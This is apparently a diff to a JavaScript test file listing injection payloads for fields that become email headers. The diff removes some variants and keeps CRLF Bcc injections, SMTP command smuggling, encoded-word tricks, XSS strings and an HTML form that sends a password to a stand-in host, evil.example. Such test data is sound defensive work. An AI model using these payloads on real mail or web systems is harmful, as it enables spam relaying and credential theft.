@@ -10,29 +10,18 @@ const victim = "victim@example.org";
 /** Injections into fields that become email headers. */
 const attacks = [
   `Eve\r\nBcc: ${victim}`,
-  `Eve\nBcc: ${victim}`,
-  `Eve\rBcc: ${victim}`,
-  `Eve%0d%0aBcc: ${victim}`,
-  `Eve\\r\\nBcc: ${victim}`,
   `Eve\r\n\r\n.\r\nMAIL FROM:<${victim}>\r\nRCPT TO:<${victim}>\r\nDATA\r\nhello`,
   // Some parsers take these for line breaks.
   `Eve\u2028Bcc: ${victim}`,
-  `Eve\u2029Bcc: ${victim}`,
   `Eve\u0085Bcc: ${victim}`,
-  `Eve\u000bBcc: ${victim}`,
   `Eve\u0000\r\nBcc: ${victim}`,
   // Their low bytes are line breaks.
   `Eve\u010d\u010aBcc: ${victim}`,
   // An encoded word that contains a line break.
   `=?utf-8?Q?Eve=0D=0ABcc:_${victim}?=`,
   `=?utf-8?B?${Buffer.from(`Eve\r\nBcc: ${victim}`).toString("base64")}?=`,
-  "=?utf-8?Q?Jo_Hartley?=",
   `Eve \u202e${victim}`,
-  // A second address as the name.
-  `Eve <${victim}>`,
   `Eve" <${victim}>, "`,
-  `${victim}, Eve`,
-  `Eve;${victim}`,
   `undisclosed: ${victim};`,
   `<img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">Eve</a>`,
   `"></td></table><form action="https://evil.example"><input name="password">`,
